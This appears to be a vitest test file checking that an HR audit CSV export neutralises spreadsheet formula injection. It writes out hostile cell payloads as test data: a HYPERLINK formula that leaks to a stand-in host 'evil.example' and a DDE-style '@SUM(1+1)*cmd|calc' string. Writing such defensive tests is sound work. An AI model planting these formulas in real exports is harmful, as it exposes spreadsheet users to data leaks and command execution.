/**
 * Audit CSV formula injection (OWASP CSV injection), tried as the attacker: a
 * manager titles a briefing with a formula and HR opens the export in a
 * spreadsheet. Every text cell the export writes is neutralised by
 * private.csv_cell, the same rule as src/domain/csv-cell.ts, and a reader
 * that strips one leading quote gets the original text back.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_EXPORT_COLUMNS } from '../../src/data/supabase/types';
import { ADVERSARIAL_CSV_CELLS, decodeCsvCell, encodeCsvCell } from '../../src/domain/csv-cell';
import { parseCsv } from '../support/csv';
import { ackOf, briefingVersion, createMember, createOrg, publishBriefing, push, sql, type TestMember } from './support/fixtures';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Open policy")';

describe('csv_cell, the SQL rule', () => {
  it('encodes exactly as the TypeScript mirror on adversarial strings', async () => {
    const [row] = await sql<{ encoded: string[] }>(
      'select array(select private.csv_cell(x) from unnest($1::text[]) with ordinality u(x, i) order by i) as encoded',
      [ADVERSARIAL_CSV_CELLS],
    );
    expect(row!.encoded).toEqual(ADVERSARIAL_CSV_CELLS.map(encodeCsvCell));
    const [nullRow] = await sql<{ v: string | null }>('select private.csv_cell(null) as v');
    expect(nullRow!.v).toBeNull();
  });
});

describe('the audit export', () => {
  let org: Awaited<ReturnType<typeof createOrg>>;
  let hr: TestMember;
  let manager: TestMember;
  let staff: TestMember;

  beforeAll(async () => {
    org = await createOrg();
    [hr, manager, staff] = await Promise.all([
      createMember({ orgId: org.orgId, storeId: null, departmentId: null, role: 'hr' }),
      createMember({ orgId: org.orgId, storeId: org.storeId, departmentId: null, role: 'manager' }),
      createMember({ orgId: org.orgId, storeId: org.storeId, departmentId: org.departmentId }),
    ]);
    await sql('insert into public.store_managers (store_id, member_id) values ($1, $2)', [org.storeId, manager.memberId]);
    // Names and store names are typed by people too.
    await sql('update public.members set display_name = $2 where id = $1', [staff.memberId, '@SUM(1+1)*cmd|calc']);
    await sql('update public.stores set name = $2 where id = $1', [org.storeId, '+Harbour']);
  });

  it("holds a manager's formula title as inert text that decodes back to the title", async () => {
    const briefingId = await publishBriefing(manager.client, { title: HYPERLINK, store_ids: [org.storeId] });
    const [result] = await push(staff.client, [ackOf(briefingId, await briefingVersion(briefingId))]);
    expect(result?.status).toBe('applied');

    const { data, status } = await hr.client.rpc('audit_export', {}).csv();
    expect(status).toBe(200);
    const [header, ...rows] = parseCsv(data as unknown as string);
    expect(header).toEqual([...AUDIT_EXPORT_COLUMNS]);
    const col = (name: (typeof AUDIT_EXPORT_COLUMNS)[number]) => header!.indexOf(name);
    const row = rows.find((r) => r[col('employee_email')] === staff.email);
    expect(row?.[col('briefing')]).toBe(`'${HYPERLINK}`);
    expect(row?.[col('person')]).toBe("'@SUM(1+1)*cmd|calc");
    expect(row?.[col('store')]).toBe("'+Harbour");
    expect(decodeCsvCell(row![col('briefing')]!)).toBe(HYPERLINK);
    for (const r of rows) for (const value of r) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
